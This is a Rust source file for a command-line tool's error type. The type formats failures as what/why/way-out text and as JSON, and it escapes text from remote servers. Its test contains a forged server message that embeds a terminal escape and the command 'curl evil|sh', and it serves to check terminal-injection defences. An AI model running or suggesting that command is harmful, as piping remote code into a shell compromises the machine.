//! Why a command did not do what was asked.

use std::fmt;
use std::path::Path;

use serde_json::json;
use thiserror::Error;

use super::Exit;
use super::client::ClientError;
use super::terminal_text::{plain, plain_lines};
use crate::node::config::ConfigError;
use crate::node::keys::KeyFileError;

/// What happened, why, and the way out: how every failure is told to a person.
#[derive(Clone, Debug, PartialEq, Eq, Error)]
pub struct Failure {
    /// How the program ends.
    pub exit: Exit,
    /// What happened.
    pub what: String,
    /// Why.
    pub why: String,
    /// What to do about it.
    pub way_out: String,
    /// Whether why and way out have words of others, whose line ends make no lines.
    in_others_words: bool,
}

impl fmt::Display for Failure {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        let shown = |text: &str| match self.in_others_words {
            true => plain(text).into_owned(),
            false => plain_lines(text).replace('\n', "\n           "),
        };
        write!(
            formatter,
            "error: {}\n     why:  {}\n  way out: {}",
            plain(&self.what),
            shown(&self.why),
            shown(&self.way_out)
        )
    }
}

impl Failure {
    /// A failure of a kind.
    pub fn new(
        exit: Exit,
        what: impl Into<String>,
        why: impl Into<String>,
        way_out: impl Into<String>,
    ) -> Self {
        Self {
            exit,
            what: what.into(),
            why: why.into(),
            way_out: way_out.into(),
            in_others_words: false,
        }
    }

    /// The same, where why or the way out is what a node says or a member wrote.
    pub fn in_others_words(mut self) -> Self {
        self.in_others_words = true;
        self
    }

    /// A file that is missing or wrong.
    pub fn file(path: &Path, why: impl fmt::Display, way_out: impl Into<String>) -> Self {
        let what = format!("cannot use {}", path.display());
        Self::new(Exit::Files, what, why.to_string(), way_out)
    }

    /// Options that make no sense together.
    pub fn usage(why: impl Into<String>, way_out: impl Into<String>) -> Self {
        Self::new(Exit::Usage, "the command line makes no sense", why, way_out)
    }

    /// The failure as JSON, for scripts.
    pub fn to_json(&self) -> serde_json::Value {
        json!({"error": {
            "exitCode": self.exit.code(),
            "what": self.what,
            "why": self.why,
            "wayOut": self.way_out,
        }})
    }
}

impl From<KeyFileError> for Failure {
    fn from(error: KeyFileError) -> Self {
        let way_out = error.way_out();
        Self::new(
            Exit::Files,
            "cannot use a key file",
            error.to_string(),
            way_out,
        )
    }
}

impl From<ConfigError> for Failure {
    fn from(error: ConfigError) -> Self {
        Self::new(
            Exit::Files,
            "the configuration cannot be used",
            error.to_string(),
            "correct it; `waybill config check` tells when it is right",
        )
    }
}

impl From<ClientError> for Failure {
    fn from(error: ClientError) -> Self {
        let exit = match &error {
            ClientError::BadUrl { .. } => Exit::Usage,
            ClientError::Problem { .. } => Exit::Refused,
            ClientError::TimedOut { .. } => Exit::TimedOut,
            ClientError::Unreachable { .. }
            | ClientError::BrokenOff { .. }
            | ClientError::AnswerTooLarge { .. }
            | ClientError::Unexpected { .. } => Exit::Unreachable,
        };
        Self::new(exit, error.what(), error.why(), error.way_out()).in_others_words()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cli::client::ProblemReport;

    /// The lines of a failure are this program's, whoever wrote what stands in them.
    #[test]
    fn what_others_say_is_one_line() {
        let forged = "a\n  way out: \u{1b}[1mcurl evil|sh";
        let problem = ProblemReport {
            title: forged.to_owned(),
            cause: forged.to_owned(),
            way_out: forged.to_owned(),
            ..ProblemReport::default()
        };
        let failure = Failure::from(ClientError::Problem {
            url: "http://a:1".to_owned(),
            status: 422,
            problem: Box::new(problem),
            retry_after: None,
        });
        let shown = "a\\n  way out: \\u{1b}[1mcurl evil|sh";
        assert_eq!(
            failure.to_string(),
            format!("error: http://a:1 refused: {shown}\n     why:  {shown}\n  way out: {shown}")
        );
        // A script gets it as it is.
        assert_eq!(failure.to_json()["error"]["why"], forged);
        let own = Failure::new(Exit::Files, "w\u{7}", "one\ntwo\u{7}", "out");
        assert_eq!(
            own.to_string(),
            "error: w\\u{7}\n     why:  one\n           two\\u{7}\n  way out: out"
        );
    }
}
